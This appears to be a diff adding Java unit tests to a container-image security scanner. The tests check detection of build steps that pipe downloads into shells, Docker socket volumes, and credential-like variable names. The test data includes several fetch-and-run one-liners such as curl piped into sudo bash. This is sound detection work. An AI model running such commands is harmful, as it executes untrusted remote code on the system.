@@ -131,6 +131,63 @@ class ImageChecksTest {
     }
 
     @Test
+    void aDownloadThatGoesIntoAShellIsFoundHoweverItGetsThere() {
+        var address = "https://example.com/x";
+        for (var script :
+                List.of(
+                        "curl -fsSL " + address + " | sudo -E bash -s",
+                        "wget -qO- " + address + " | tee x | python3 -",
+                        "bash <(curl -s " + address + ")",
+                        "eval \"$(curl -s " + address + ")\"",
+                        "set -e; sh -c \"$(wget -qO- " + address + ")\"")) {
+            for (var step : List.of("RUN /bin/sh -c ", "RUN |1 A=b /bin/sh -c ", "/bin/sh -c ")) {
+                assertThat(ids(ImageFixtures.step(step + script + " # buildkit")))
+                        .as(step + script)
+                        .contains("image/download-into-shell");
+            }
+        }
+    }
+
+    @Test
+    void aDownloadThatIsSavedOrReadAsDataIsNotRunAsItCame() {
+        for (var script :
+                List.of(
+                        "curl https://example.com/x | python3 -c 'import json'",
+                        "echo curl | sh",
+                        "curl -o x https://example.com/x && sh x",
+                        "true # curl x | sh")) {
+            assertThat(ids(ImageFixtures.step("RUN /bin/sh -c " + script + " # buildkit")))
+                    .as(script)
+                    .doesNotContain("image/download-into-shell");
+        }
+    }
+
+    @Test
+    void theSocketOfAnyEngineIsNoVolume() {
+        for (var socket :
+                List.of("/run/docker.sock", "/run/buildkit/buildkitd.sock", "/x/dockershim.sock")) {
+            assertThat(ids(ImageFixtures.settings("{\"Volumes\":{\"%s\":{}}}".formatted(socket))))
+                    .as(socket)
+                    .contains("image/volume-sensitive");
+        }
+    }
+
+    @Test
+    void variablesAreCalledLikeCredentialsAsEverywhere() {
+        for (var name : List.of("GITHUB_PAT", "dbPassword", "STORAGE_ACCOUNT_KEY", "MASTER_KEY")) {
+            assertThat(ids(ImageFixtures.settings("{\"Env\":[\"%s=x\"]}".formatted(name))))
+                    .as(name)
+                    .contains("image/secret-like-variable");
+        }
+        for (var name :
+                List.of("TOKEN_ISSUER", "SECRET_HASH", "JWT_PUBLIC_KEY", "PASSWORD_SHA256")) {
+            assertThat(ids(ImageFixtures.settings("{\"Env\":[\"%s=x\"]}".formatted(name))))
+                    .as(name)
+                    .doesNotContain("image/secret-like-variable");
+        }
+    }
+
+    @Test
     void theHashOfAPasswordIsNeverTold() {
         var hash = "$1$" + "saltsalt$" + "0123456789abcdefghijkl";
         var findings = Readings.findings(ImageFixtures.files(shadow("app:" + hash + ":1:")));
